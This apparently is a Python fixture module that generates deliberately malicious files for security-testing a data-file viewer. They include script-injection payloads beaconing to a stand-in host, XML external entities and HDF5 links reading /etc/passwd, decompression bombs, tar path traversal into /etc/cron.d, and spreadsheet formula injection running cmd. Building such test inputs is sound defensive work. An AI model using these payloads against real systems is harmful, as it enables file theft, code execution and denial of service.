"""Contents that no honest person makes: pages, tables, pictures and archives that do harm where they are believed."""

import io
import json
import struct
import tarfile
import zipfile
import zlib
from typing import Any

MB = 1 << 20
ELSEWHERE = "elsewhere.invalid"
"""A host that nothing may be asked of: browsers of tests find a listener there that counts who comes."""
SCRIPT = f"fetch('/canary');new Image().src='http://{ELSEWHERE}/ran';top.ran=window.ran=1;alert('ran')"
"""What runs where it should not is noticed: it asks, marks the window, and opens a dialogue."""
TAG = f"<script>{SCRIPT}</script>"
LINKS = (
    f"<link rel=preconnect href=http://{ELSEWHERE}><link rel=dns-prefetch href=//{ELSEWHERE}>"
    f"<link rel=stylesheet href=http://{ELSEWHERE}/a.css><meta http-equiv=refresh content='0;url=http://{ELSEWHERE}/'>"
    f'<base href=http://{ELSEWHERE}/><img src=http://{ELSEWHERE}/a.png onerror="{SCRIPT}">'
    f'<iframe src=http://{ELSEWHERE}/></iframe><iframe srcdoc="{TAG}"></iframe>'
    f"<object data=http://{ELSEWHERE}/></object><embed src=http://{ELSEWHERE}/><video autoplay src=http://{ELSEWHERE}/v></video>"
    f"<style>@import url(http://{ELSEWHERE}/b.css);body{{background:url(http://{ELSEWHERE}/c.png)}}</style>"
    f'<a id=go href="javascript:{SCRIPT}" target=_top>go</a><form action=http://{ELSEWHERE}/ target=_top><button id=send>send</button></form>'
)
HTML = f'<!doctype html><body onload="{SCRIPT}">{TAG}{LINKS}</body>'.encode()
SVG = f"""<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" xmlns:h="http://www.w3.org/1999/xhtml" width="90" height="90" onload="{SCRIPT}">
<h:link rel="preconnect" href="http://{ELSEWHERE}"/><script>{SCRIPT}</script><style>@import url(http://{ELSEWHERE}/d.css);</style>
<image href="http://{ELSEWHERE}/e.png" width="9" height="9"/><use xlink:href="http://{ELSEWHERE}/f.svg#a"/>
<foreignObject width="90" height="90"><h:iframe src="http://{ELSEWHERE}/"/><h:img src="x" onerror="{SCRIPT}"/><h:body onload="{SCRIPT}"/></foreignObject>
<a href="javascript:{SCRIPT}"><rect width="90" height="90"/><animate attributeName="href" values="javascript:{SCRIPT}"/></a></svg>""".encode()


def page() -> bytes:
    return HTML


def picture() -> bytes:
    return SVG


def _votable(head: str, field: str = "", cell: str = "1", *, before: str = "") -> bytes:
    named = field or "<FIELD name='x' datatype='int'/>"
    return (
        f"<?xml version='1.0'?>{before}<VOTABLE version='1.4'>{head}<RESOURCE><TABLE>{named}"
        f"<DATA><TABLEDATA><TR><TD>{cell}</TD></TR></TABLEDATA></DATA></TABLE></RESOURCE></VOTABLE>"
    ).encode()


def laughs() -> bytes:
    entities = "<!ENTITY a0 'ha'>" + "".join(f"<!ENTITY a{n} '{f'&a{n - 1};' * 10}'>" for n in range(1, 10))
    return _votable("", cell="&a9;", before=f"<!DOCTYPE v [{entities}]>")


def outside_entity() -> bytes:
    before = f"<!DOCTYPE v SYSTEM 'http://{ELSEWHERE}/a.dtd' [<!ENTITY x SYSTEM 'file:///etc/passwd'>]>"
    return _votable("<DESCRIPTION>&x;</DESCRIPTION>", cell="&x;", before=before)


def votable_words() -> bytes:
    told = f"&lt;script&gt;{SCRIPT}&lt;/script&gt;"
    field = f'<FIELD name="{told}" datatype="char" arraysize="*" unit="{told}" ucd="{told}"><DESCRIPTION>{told}</DESCRIPTION><LINK href="javascript:alert(1)"/></FIELD>'
    sheet = f'<?xml-stylesheet type="text/xsl" href="http://{ELSEWHERE}/a.xsl"?>'
    return _votable(f"<DESCRIPTION>{told}</DESCRIPTION>", field, told, before=sheet)


def elsewhere_rows() -> bytes:
    return b"<VOTABLE><TABLE><FIELD name='x' datatype='int'/><DATA><BINARY><STREAM href='file:///etc/passwd'/></BINARY></DATA></TABLE></VOTABLE>"


def styled_xml() -> bytes:
    sheet = f"<x:stylesheet version='1.0' xmlns:x='http://www.w3.org/1999/XSL/Transform'><x:template match='/'><script xmlns='http://www.w3.org/1999/xhtml'>{SCRIPT}</script></x:template></x:stylesheet>"
    return f'<?xml-stylesheet type="text/xsl" href="data:text/xml,{sheet.replace("<", "%3C")}"?><a/>'.encode()


def xhtml() -> bytes:
    return f"<html xmlns='http://www.w3.org/1999/xhtml'><body onload=\"{SCRIPT}\"><script>{SCRIPT}</script></body></html>".encode()


def _notebook(*cells: dict[str, Any], **metadata: Any) -> bytes:
    book = {"nbformat": 4, "nbformat_minor": 5, "metadata": metadata, "cells": list(cells)}
    return json.dumps(book).encode()


def _code(**data: str) -> dict[str, Any]:
    """Return a cell with one output; `__` stands for the slash of a type."""
    told = {name.replace("__", "/").replace("_xml", "+xml"): text for name, text in data.items()}
    output = {"output_type": "display_data", "metadata": {}, "data": told}
    common = {"id": "a", "metadata": {}, "execution_count": None}
    return {"cell_type": "code", "source": TAG, "outputs": [output], **common}


def notebook_outputs() -> bytes:
    cells = [
        _code(text__html=HTML.decode()),
        _code(image__svg_xml=SVG.decode()),
        _code(application__javascript=SCRIPT),
        _code(text__latex=f"$${TAG}$$", text__plain=TAG),
        _code(text__markdown=f"{TAG} [a](javascript:alert(1)) {LINKS}"),
    ]
    return _notebook(*cells, title=f"</title>{TAG}", kernelspec={"name": f'">{TAG}', "display_name": TAG})


def notebook_links() -> bytes:
    text = f'# {TAG}\n[a](javascript:alert(1)) <a id=go href="javascript:{SCRIPT}" target=_top>go</a> ![b](http://{ELSEWHERE}/g.png)\n\n{LINKS}'
    markdown = {"cell_type": "markdown", "id": "b", "metadata": {}, "source": text}
    raw = {"cell_type": "raw", "id": "c", "metadata": {"format": "text/html"}, "source": HTML.decode()}
    return _notebook(markdown, raw)


def pdf_polyglot() -> bytes:
    return b"%PDF-1.7\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\n" + HTML


def gif_polyglot() -> bytes:
    """Return a picture that is a program as well: its size is `/*`, and behind its end stands the script."""
    picture = b"GIF89a/*\x01\x00\x80\x00\x00\x00\x00\x00\xff\xff\xff,\x00\x00\x00\x00\x01\x00\x01\x00\x00\x02\x02D\x01\x00;"
    return picture + f"*/=1;{SCRIPT}".encode()


def png(width: int, height: int, rows: bytes = b"") -> bytes:
    def chunk(kind: bytes, content: bytes) -> bytes:
        return (
            struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))
        )

    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    body = chunk(b"tEXt", b"Comment\0" + TAG.encode()) + chunk(b"IDAT", zlib.compress(rows))
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", head) + body + chunk(b"IEND", b"")


def zip_of(*names: str, content: bytes = b"x") -> bytes:
    stream = io.BytesIO()
    with zipfile.ZipFile(stream, "w", zipfile.ZIP_DEFLATED) as archive:
        for name in names:
            archive.writestr(name, content)
    return stream.getvalue()


def nested_zip() -> bytes:
    content = bytes(MB)
    for level in range(12):
        content = zip_of(*(f"{level}-{copy}.zip" for copy in range(10)), content=content)
    return content


def traversing_tar() -> bytes:
    stream = io.BytesIO()
    with tarfile.open(fileobj=stream, mode="w:gz") as archive:
        for name in ("../../../etc/cron.d/x", "/etc/cron.d/y", "a/../../b"):
            archive.addfile(tarfile.TarInfo(name))
        link = tarfile.TarInfo("passwd")
        link.type, link.linkname = tarfile.SYMTYPE, "/etc/passwd"
        archive.addfile(link)
    return stream.getvalue()


def formulas() -> bytes:
    cells = [
        "=cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
        "@SUM(1)",
        f'=HYPERLINK("http://{ELSEWHERE}")',
        TAG,
        "\t=1+1",
    ]
    return (
        "name," + TAG + "\n" + "".join(f'"{cell.replace(chr(34), 2 * chr(34))}",1\n' for cell in cells)
    ).encode()


def fits_of(*cards: str, data: bytes = b"", first: str = "SIMPLE  =                    T") -> bytes:
    head = "".join(card.ljust(80) for card in (first, *cards, "END"))
    padded = head.encode() + b" " * (-len(head) % 2880)
    return padded + data + bytes(-len(data) % 2880)


def image_cards(*sizes: object, bits: object = 8) -> list[str]:
    axes = [f"{f'NAXIS{number}':8}= {size!s:>20}" for number, size in enumerate(sizes, 1)]
    return [f"BITPIX  = {bits!s:>20}", f"NAXIS   = {len(sizes):>20}", *axes]


def many_cards() -> bytes:
    return fits_of(*image_cards(), *(f"HIERARCH A{number} = {number}" for number in range(100_000)))


def fits_words() -> bytes:
    words = "<script>alert(1)</script>"
    first = fits_of(
        *image_cards(),
        f"OBJECT  = '{words}'",
        f"COMMENT {words}",
        f"HIERARCH {words} = 1",
        "EXTEND  =                    T",
    )
    extension = [
        *image_cards(2, 2),
        "PCOUNT  =                    0",
        "GCOUNT  =                    1",
        f"EXTNAME = '{words}'",
    ]
    return first + fits_of(*extension, data=b"abcd", first="XTENSION= 'IMAGE   '")


def lying_table() -> bytes:
    numbers = {"PCOUNT": 10**11, "GCOUNT": 1, "TFIELDS": 2, "THEAP": -5}
    table = [*image_cards(16, 10**12), *(f"{name:8}= {value:>20}" for name, value in numbers.items())]
    forms = ["TTYPE1  = '<b>a'", "TFORM1  = '1PD(99999999)'", "TTYPE2  = 'b'", "TFORM2  = '99999999D'"]
    extension = fits_of(*table, *forms, data=b"\xff" * 64, first="XTENSION= 'BINTABLE'")
    return fits_of(*image_cards(), "EXTEND  =                    T") + extension


def gzip_bomb() -> bytes:
    packer = zlib.compressobj(9, wbits=31)
    return b"".join(packer.compress(bytes(MB)) for _ in range(300)) + packer.flush()


def outside_hdf5() -> bytes:
    import h5py

    stream = io.BytesIO()
    with h5py.File(stream, "w") as file:
        file["outside"] = h5py.ExternalLink("/etc/passwd", "/")
        file["up"] = h5py.ExternalLink("../../secret.h5", "/")
        file["loop"] = h5py.SoftLink("/loop")
        file["round"] = file["/"]
        file[TAG.replace("/", "|")] = 1
        file.create_dataset("elsewhere", shape=(10,), dtype="u1", external=[("/etc/passwd", 0, 10)])
        file["elsewhere"].attrs[TAG] = TAG
    return stream.getvalue()


def _parquet(columns: dict[str, Any], **options: Any) -> bytes:
    import pyarrow as pa
    from pyarrow import parquet

    stream = io.BytesIO()
    parquet.write_table(pa.table(columns), stream, **options)
    return stream.getvalue()


def lying_parquet() -> bytes:
    whole = _parquet({TAG: [TAG, "b"]})
    return whole[:-8] + (2**31 - 1).to_bytes(4, "little") + whole[-4:]


def parquet_bomb() -> bytes:
    """Return 200 MB in 20 kB or so."""
    return _parquet({"x": ["x" * 100_000] * 2_000}, compression="zstd", use_dictionary=False)


def parquet_words() -> bytes:
    return _parquet({TAG: [TAG, "=cmd()", "\x1b]0;owned\x07"], "b": [[1], [2] * 100_000, []]})
